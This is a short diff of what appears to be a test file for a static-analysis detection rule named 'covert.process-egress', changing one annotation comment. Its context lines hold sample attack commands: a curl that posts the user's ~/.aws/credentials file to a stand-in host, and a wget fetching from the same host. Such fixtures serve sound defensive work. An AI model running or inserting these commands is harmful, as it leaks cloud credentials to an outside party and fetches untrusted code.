@@ -11,7 +11,7 @@ import dns.resolver
 import requests
 from scapy.all import ICMP, IP, send
 
-# ruleid: covert.process-egress
+# ruleid: covert.process-egress host=203.0.113.5 creds=-
 subprocess.run(f"curl -s -d @{os.path.expanduser('~/.aws/credentials')} https://203.0.113.5/c", shell=True)
 # ruleid: covert.process-egress
 co(["wget", "-q", "https://203.0.113.5/x"])
